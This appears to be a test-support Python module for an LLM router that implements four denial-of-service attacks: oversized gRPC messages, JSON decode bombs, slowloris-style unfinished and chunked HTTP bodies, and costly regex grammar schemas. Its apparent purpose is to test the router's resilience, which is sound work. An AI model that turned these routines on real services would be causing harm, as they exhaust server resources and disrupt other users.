"""What a tenant with few requests a minute can do to a router: ``python -m tests.support.attacks NAME URL GRPC KEY``.

Each attack runs until it is killed, at the lowest priority, so that it takes the router's time and not the machine's.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import json
import os
import sys
from typing import Any
from urllib.parse import urlsplit

import grpc
import httpx

from baton.api.v1 import router_pb2

_MIB = 1 << 20
_numbers = itertools.count()


class Target:
    """A router, and the key that is shown to it."""

    def __init__(self, url: str, grpc_address: str, key: str) -> None:
        self.url = url
        self.grpc = grpc_address
        self.key = key
        parts = urlsplit(url)
        self.host, self.port = parts.hostname, parts.port

    async def begin_body(self, head: bytes) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """Open a connection and send a request's head."""
        reader, writer = await asyncio.open_connection(self.host, self.port)
        lines = b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n"
        writer.write(lines + b"authorization: Bearer %b\r\n%b\r\n\r\n" % (self.key.encode(), head))
        return reader, writer


async def send_messages(target: Target) -> None:
    """Send messages of 31 MiB over gRPC: four million turns, 31 million ids, ten million stop strings."""
    turn = router_pb2.ChatMessage(role="user").SerializeToString()
    turns = (b"\x0a%c%b" % (len(turn), turn)) * (31 * _MIB // (len(turn) + 2))
    bodies = [
        _field(5, turns),
        _field(4, _field(1, b"\x05" * (30 * _MIB))),
        _field(3, b"x") + b"\x3a\x00" * (10 * _MIB),
    ]
    options = [("grpc.max_send_message_length", -1)]
    async with grpc.aio.insecure_channel(target.grpc, options=options) as channel:
        call = channel.unary_stream("/baton.api.v1.RouterService/Generate")
        for body in itertools.cycle(bodies):
            with contextlib.suppress(grpc.RpcError):
                async for _ in call(body, metadata=(("authorization", f"Bearer {target.key}"),), timeout=60):
                    pass


def _field(number: int, data: bytes) -> bytes:
    """Encode a field with a length."""
    size, digits = len(data), b""
    while size > 0x7F:
        digits += bytes([size & 0x7F | 0x80])
        size >>= 7
    return bytes([number << 3 | 2]) + digits + bytes([size]) + data


async def send_json(target: Target) -> None:
    """Send bodies whose millions of values take long to decode, of the longest length that is taken."""
    kinds = (b'{"tools":[%b1]}', b'{"messages":[],"chat_template_kwargs":{"a":[%b1]}}', b'{"metadata":[%b1]}')
    values = (b'{"a":[]},', b"[],", b"1,", b'"",')
    headers = {"authorization": f"Bearer {target.key}", "content-type": "application/json"}
    async with httpx.AsyncClient(base_url=target.url, timeout=60, headers=headers) as client:
        for kind, value, size in itertools.cycle(itertools.product(kinds, values, (4 * _MIB - 100, 16 * _MIB - 100))):
            body = kind % (value * (size // len(value)))
            with contextlib.suppress(httpx.HTTPError):
                await client.post("/v1/chat/completions", content=body)


async def keep_bodies(target: Target) -> None:
    """Keep a hundred bodies unfinished, and four that come in chunks of two bytes."""

    async def partial() -> None:
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await target.begin_body(b"content-length: %d" % (4 * _MIB - 100))
                with contextlib.closing(writer):
                    writer.write(bytes(4 * _MIB - _MIB // 2))
                    await reader.read(1)
            await asyncio.sleep(0.05)

    async def chunks() -> None:
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await target.begin_body(b"transfer-encoding: chunked")
                answered = asyncio.ensure_future(_ends(reader))
                with contextlib.closing(writer):
                    while not answered.done():
                        writer.write(b"2\r\nxx\r\n" * 2000)
                        await writer.drain()
                answered.cancel()
            await asyncio.sleep(0.05)

    await asyncio.gather(*(partial() for _ in range(100)), *(chunks() for _ in range(4)))


async def _ends(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        await reader.read(1)


async def send_grammars(target: Target) -> None:
    """Send grammars that cost much to compile, none of them twice."""

    async def bombs() -> None:
        headers = {"authorization": f"Bearer {target.key}"}
        async with httpx.AsyncClient(base_url=target.url, timeout=60, headers=headers) as client:
            while True:
                number = next(_numbers)
                schema: dict[str, Any] = {"allOf": [{"pattern": f"(a|b)*{number}a(a|b){{{n}}}"} for n in range(60)]}
                body = {"messages": [{"role": "user", "content": "x"}], "guided_json": {"type": "string"} | schema}
                with contextlib.suppress(httpx.HTTPError):
                    await client.post("/v1/chat/completions", content=json.dumps(body), headers=_JSON)

    await asyncio.gather(*(bombs() for _ in range(12)))


_JSON = {"content-type": "application/json"}
ATTACKS = {each.__name__: each for each in (send_messages, send_json, keep_bodies, send_grammars)}


if __name__ == "__main__":
    os.nice(19)
    asyncio.run(ATTACKS[sys.argv[1]](Target(*sys.argv[2:])))
